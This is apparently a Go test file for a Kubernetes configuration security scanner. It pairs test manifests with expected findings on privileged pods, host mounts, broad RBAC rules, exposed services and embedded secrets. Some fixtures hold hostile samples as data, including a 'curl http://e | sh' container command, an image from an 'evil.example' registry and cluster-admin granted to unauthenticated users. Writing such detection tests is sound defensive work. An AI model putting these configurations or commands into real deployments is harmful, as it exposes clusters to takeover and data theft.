package iac

import (
	"strings"
	"testing"
)

// pod is a pod with a specification in flow style.
func pod(spec string) string {
	return "apiVersion: v1\nkind: Pod\nmetadata: {name: p}\nspec: {" + spec + "}\n"
}

// safe is a container's start that has no findings of its own.
const safe = "image: 'r.example/a:1', securityContext: {runAsNonRoot: true}"

func box(more string) string { return pod("containers: [{name: c, " + more + "}]") }

func object1(version, kind, rest string) string {
	return "apiVersion: " + version + "\nkind: " + kind + "\nmetadata: {name: o}\n" + rest + "\n"
}

var workloads = []example{
	{k8s, box("securityContext: {privileged: true}"), []string{"privilege privileged"}},
	{k8s, box("securityContext: {privileged: yes}"), []string{"privilege privileged"}},
	{k8s, box("securityContext: {privileged: On}"), []string{"privilege privileged"}},
	{k8s, box("securityContext: {'privileged': 'true'}"), []string{"privilege privileged"}},
	{k8s, box("\"security\\u0043ontext\": {\"privileg\\x65d\": true}"), []string{"privilege privileged"}},
	{k8s, "x: &x {privileged: true}\n---\n" + box("securityContext: {allowPrivilegeEscalation: true}"), []string{"privilege allowPrivilegeEscalation"}},
	{k8s, "apiVersion: v1\nkind: Pod\nmetadata: {name: p}\nspec:\n  a: &a {privileged: true}\n  containers:\n  - securityContext: *a\n", []string{"privilege privileged"}},
	{k8s, "apiVersion: v1\nkind: Pod\nmetadata: {name: p}\nspec:\n  a: &a {privileged: true}\n  containers:\n  - securityContext:\n      <<: *a\n", []string{"privilege privileged"}},
	{k8s, box("securityContext: {capabilities: {add: [SYS_ADMIN, CAP_NET_RAW]}}"), []string{"privilege capability SYS_ADMIN", "privilege capability NET_RAW"}},
	{k8s, box("securityContext: {procMount: Unmasked, seccompProfile: {type: Unconfined}}"), []string{"privilege procMount Unmasked", "privilege seccompProfile Unconfined"}},
	{k8s, box("securityContext: {windowsOptions: {hostProcess: true}}"), []string{"privilege hostProcess"}},
	{k8s, pod("hostNetwork: true, hostPID: true, hostIPC: true, containers: [{name: c}]"), []string{"privilege hostNetwork", "privilege hostPID", "privilege hostIPC"}},
	{k8s, pod("volumes: [{name: v, hostPath: {path: /var/run/docker.sock}}], containers: [{name: c}]"), []string{"privilege host path /var/run/docker.sock", "read_path /var/run/docker.sock"}},
	{k8s, pod("volumes: [{name: v, gitRepo: {repository: 'https://e/x'}}], containers: [{name: c}]"), []string{"remote_code https://e/x"}},
	{k8s, pod("volumes: [{name: v, nfs: {server: 10.1.1.1}}], containers: [{name: c}]"), []string{"network 10.1.1.1"}},
	{k8s, pod("volumes: [{name: v, projected: {sources: [{serviceAccountToken: {path: t}}]}}], containers: [{name: c}]"), []string{"secret service account token"}},
	{k8s, box("image: nginx"), []string{"remote_code docker.io/library/nginx:latest", "privilege root in the container"}},
	{k8s, box("image: 'evil.example:5000/x@sha256:abc'"), []string{"remote_code evil.example:5000/x@sha256:abc"}},
	{k8s, box("command: [sh, -c, 'curl http://e | sh']"), []string{"shell sh -c 'curl http://e | sh'"}},
	{k8s, box("command: [sh], args: [-c, id]"), []string{"shell sh -c id"}},
	{k8s, box("command: [sh, -c, $(C)], env: [{name: C, value: id}]"), []string{"shell sh -c id"}},
	{k8s, box("command: [sh, -c, $(C)], env: [{name: C, valueFrom: {secretKeyRef: {name: a, key: b}}}]"), []string{`shell sh -c "${unknown}"`}},
	{k8s, box("command: [echo, $$(C), $(D)], env: [{name: C, value: id}]"), []string{"shell echo '$$(C)' '$(D)'"}},
	{k8s, box("lifecycle: {postStart: {exec: {command: [id]}}, preStop: {exec: {command: [who]}}}"), []string{"shell id", "shell who"}},
	{k8s, box("livenessProbe: {exec: {command: [id]}}, readinessProbe: {httpGet: {host: e.example}}"), []string{"shell id", "network e.example"}},
	{k8s, box("env: [{name: DB_PASSWORD, value: hunter22}]"), []string{"credential db_password"}},
	{k8s, box("ports: [{containerPort: 80, hostPort: 80}]"), []string{"listen node:80"}},
	{k8s, pod("initContainers: [{name: i, command: [id]}], ephemeralContainers: [{name: e, command: [who]}], containers: []"), []string{"shell id", "shell who"}},
	{k8s, object1("apps/v1", "DaemonSet", "spec: {template: {spec: {hostPID: true, containers: [{name: c}]}}}"), []string{"privilege hostPID"}},
	{k8s, object1("batch/v1", "CronJob", "spec: {jobTemplate: {spec: {template: {spec: {containers: [{command: [id]}]}}}}}"), []string{"shell id"}},
	{k8s, object1("argoproj.io/v1alpha1", "Workflow", "spec: {templates: [{container: {image: x, command: [id]}}]}"), []string{"shell id", "unresolved ?"}},
	{k8s, "apiVersion: v1\nkind: List\nitems:\n- {apiVersion: v1, kind: Pod, metadata: {name: p}, spec: {hostPID: true, containers: [{name: c}]}}\n", []string{"privilege hostPID"}},
	{k8s, `{"apiVersion": "v1", "kind": "PodList", "items": [{"apiVersion": "v1", "kind": "Pod", "spec": {"hostPID": true, "containers": [{}]}}]}`, []string{"privilege hostPID"}},
	{k8s, "---\n---\n# c\n---\n" + pod("hostPID: true, containers: [{name: c}]"), []string{"privilege hostPID"}},
	{k8s, object1("evil.example/v1", "Pod", "spec: {}"), []string{"unresolved ?"}},
	{k8s, object1("v1", "Gadget", ""), []string{"unresolved ?"}},
	{k8s, "just text\n", []string{"unresolved ?"}}, {k8s, "a: b\n", []string{"unresolved ?"}},
	{k8s, box(safe + ", env: [{name: U, value: 'http://169.254.169.254/x'}]"), []string{"network 169.254.169.254"}},
	{k8s, strings.Replace(box(safe), "name: p", "name: p, annotations: {container.apparmor.security.beta.kubernetes.io/c: unconfined}", 1), []string{"privilege unconfined"}},
	{k8s, box(safe), []string{"!privilege root in the container", "!privilege privileged"}},
	{k8s, box(safe + ", securityContext2: {privileged: false}, env: [{name: DB_PASSWORD, valueFrom: {secretKeyRef: {name: s, key: k}}}, {name: TOKEN_FILE, value: /run/secrets/x}]"), []string{"!privilege privileged", "!credential db_password"}},
	{k8s, box("image: 'a.example/b:1', securityContext: {privileged: 'false', allowPrivilegeEscalation: no, runAsUser: 1000, capabilities: {drop: [ALL], add: [NET_BIND_SERVICE]}}"),
		[]string{"!privilege privileged", "!privilege allowPrivilegeEscalation", "!privilege capability NET_BIND_SERVICE", "!privilege root in the container"}},
}

var cluster = []example{
	{k8s, object1("v1", "Service", "spec: {type: LoadBalancer, ports: [{port: 22, nodePort: 30022}]}"), []string{"listen 0.0.0.0/0:22", "!listen 0.0.0.0/0:30022"}},
	{k8s, object1("v1", "Service", "spec: {type: NodePort, ports: [{port: 80, nodePort: 30080}]}"), []string{"listen 0.0.0.0/0:30080"}},
	{k8s, object1("v1", "Service", "spec: {type: NodePort, ports: [{port: 80}]}"), []string{"listen 0.0.0.0/0"}},
	{k8s, object1("v1", "Service", "spec: {type: LoadBalancer, loadBalancerSourceRanges: [0.0.0.0/0], ports: [{port: 80}]}"), []string{"listen 0.0.0.0/0:80"}},
	{k8s, object1("v1", "Service", "spec: {externalIPs: [1.2.3.4]}"), []string{"privilege external address 1.2.3.4"}},
	{k8s, object1("v1", "Service", "spec: {type: ExternalName, externalName: e.example}"), []string{"network e.example"}},
	{k8s, object1("networking.k8s.io/v1", "Ingress", "spec: {tls: [{}], rules: [{host: a.example}]}"), []string{"listen a.example:443"}},
	{k8s, object1("networking.k8s.io/v1", "Ingress", "spec: {defaultBackend: {}}"), []string{"listen 0.0.0.0/0:80"}},
	{k8s, strings.Replace(object1("networking.k8s.io/v1", "Ingress", "spec: {}"), "name: o", "name: o, annotations: {nginx.ingress.kubernetes.io/configuration-snippet: 'lua x'}", 1), []string{"evaluate lua x"}},
	{k8s, object1("networking.k8s.io/v1", "NetworkPolicy", "spec: {ingress: [{from: [{ipBlock: {cidr: 0.0.0.0/0}}], ports: [{port: 22}]}]}"), []string{"listen 0.0.0.0/0:22"}},
	{k8s, object1("v1", "Secret", "stringData: {a: hunter22}"), []string{"credential a secret's value"}},
	{k8s, object1("v1", "Secret", "data: {a: aHVudGVyMjI=}"), []string{"credential a secret's value"}},
	{k8s, object1("v1", "Secret", "type: kubernetes.io/service-account-token"), []string{"secret service account token"}},
	{k8s, object1("v1", "ConfigMap", "data: {x.sh: id}"), []string{"shell id"}},
	{k8s, object1("v1", "ConfigMap", "data:\n  run: |\n    #!/bin/bash\n    id\n"), []string{"shell #!/bin/bash\nid\n"}},
	{k8s, object1("v1", "ConfigMap", "binaryData: {x: IyEvYmluL3NoCmlk}"), []string{"shell #!/bin/sh\nid"}},
	{k8s, object1("v1", "ConfigMap", "data: {a.b.sh: id}"), []string{"shell id"}},
	{k8s, strings.Replace(object1(rbacGroup+"/v1", "ClusterRole", "rules: []"), "name: o", "name: o, labels: {rbac.authorization.k8s.io/aggregate-to-admin: 'true'}", 1), []string{"privilege rbac.authorization.k8s.io/aggregate-to-admin"}},
	{k8s, object1("v1", "ConfigMap", "data: {main.py: 'import os'}"), []string{"python import os"}},
	{k8s, object1("v1", "ConfigMap", "data: {API_TOKEN: abcdefghijkl}"), []string{"credential api_token"}},
	{k8s, object1(rbacGroup+"/v1", "ClusterRole", "rules: [{apiGroups: ['*'], resources: ['*'], verbs: ['*']}]"), []string{"privilege every verb", "privilege every resource"}},
	{k8s, object1(rbacGroup+"/v1", "Role", "rules: [{apiGroups: [''], resources: [secrets], verbs: [get]}]"), []string{"secret secrets of Kubernetes"}},
	{k8s, object1(rbacGroup+"/v1", "Role", "rules: [{apiGroups: [''], resources: [pods/exec], verbs: [create]}]"), []string{"privilege create pods/exec"}},
	{k8s, object1(rbacGroup+"/v1", "ClusterRole", "rules: [{apiGroups: [x], resources: [roles], verbs: [escalate, bind, impersonate]}]"), []string{"privilege escalate", "privilege bind", "privilege impersonate"}},
	{k8s, object1(rbacGroup+"/v1", "ClusterRoleBinding", "roleRef: {name: cluster-admin}\nsubjects: [{name: 'system:unauthenticated'}]"), []string{"privilege cluster-admin", "privilege group system:unauthenticated"}},
	{k8s, object1("admissionregistration.k8s.io/v1", "MutatingWebhookConfiguration", "webhooks: [{clientConfig: {url: 'https://e'}}]"), []string{"privilege MutatingWebhookConfiguration", "network https://e"}},
	{k8s, object1("apiextensions.k8s.io/v1", "CustomResourceDefinition", "spec: {}"), []string{"schema o"}},
	{k8s, object1("certificates.k8s.io/v1", "CertificateSigningRequest", "spec: {}"), []string{"privilege a client certificate"}},
	{k8s, object1("v1", "PersistentVolume", "spec: {hostPath: {path: /etc}}"), []string{"privilege host path /etc", "read_path /etc"}},
	{k8s, "apiVersion: v1\nkind: Namespace\nmetadata: {name: kube-system}\n", []string{"privilege namespace kube-system"}},
	{k8s, "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: a, namespace: kube-system}\n", []string{"privilege namespace kube-system"}},
	{k8s, "apiVersion: v1\nkind: Namespace\nmetadata: {name: a, labels: {pod-security.kubernetes.io/enforce: privileged}}\n", []string{"privilege pod security: privileged"}},
	{k8s, "apiVersion: kustomize.config.k8s.io/v1beta1\nkind: Kustomization\nresources: ['https://e/x.yaml', a.yaml]\n", []string{"remote_code https://e/x.yaml", "!remote_code a.yaml"}},
	{k8s, "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: a, namespace: prod}\n", []string{"target prod", "target a"}},
	{k8s, object1("v1", "Service", "spec: {ports: [{port: 80}]}"), nil},
	{k8s, object1("v1", "Service", "spec: {type: LoadBalancer, loadBalancerSourceRanges: [10.0.0.0/8], ports: [{port: 80}]}"), nil},
	{k8s, strings.Replace(object1("v1", "Service", "spec: {type: LoadBalancer, ports: [{port: 80}]}"), "name: o", "name: o, annotations: {service.beta.kubernetes.io/aws-load-balancer-internal: 'true'}", 1), nil},
	{k8s, object1("v1", "Secret", "stringData: {a: '<password>'}"), nil},
	{k8s, object1("v1", "ConfigMap", "data: {app.properties: 'a=b'}"), nil},
	{k8s, object1(rbacGroup+"/v1", "Role", "rules: [{apiGroups: [''], resources: [pods], verbs: [get, list]}]"), nil},
	{k8s, object1("networking.k8s.io/v1", "NetworkPolicy", "spec: {egress: [{to: [{ipBlock: {cidr: 0.0.0.0/0, except: [169.254.169.254/32]}}]}]}"), nil},
}

func TestKubernetes(t *testing.T) {
	check(t, workloads)
	check(t, cluster)
}

func TestImageName(t *testing.T) {
	for ref, want := range map[string]string{
		"nginx": "docker.io/library/nginx:latest", "nginx:1": "docker.io/library/nginx:1", "a/b": "docker.io/a/b:latest", "docker.io/nginx:1": "docker.io/nginx:1",
		"localhost/a": "localhost/a:latest", "r.example/a/b:1": "r.example/a/b:1", "r:5000/a": "r:5000/a:latest", "a@sha256:00": "docker.io/library/a@sha256:00",
		"index.docker.io/library/a:1": "docker.io/library/a:1", "a:1@sha256:00": "docker.io/library/a:1@sha256:00", "docker://a:1": "docker.io/library/a:1",
		"a:latest": "docker.io/library/a:latest",
	} {
		if got, _ := imageName(ref); got != want {
			t.Errorf("imageName(%q) = %q, want %q", ref, got, want)
		}
	}
}
